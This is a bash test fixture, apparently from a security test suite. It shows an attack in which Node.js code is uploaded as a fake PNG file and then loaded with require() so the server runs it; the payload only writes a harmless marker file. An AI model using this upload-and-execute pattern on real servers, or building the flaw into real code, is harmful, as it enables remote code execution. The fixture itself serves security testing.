# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1059.007
about="an upload is loaded as code with require"
attack() {
	ask --data-binary 'require("fs").writeFileSync("/var/tmp/fidelity/marker/was-here", "x")' "$shop/upload?evilcode.png"
	inject 'return require("/srv/shop/data/uploads/evilcode.png")'
}
effect() { [ -e "$marker" ]; }
after() { rm -f $home/data/uploads/evilcode.png; }
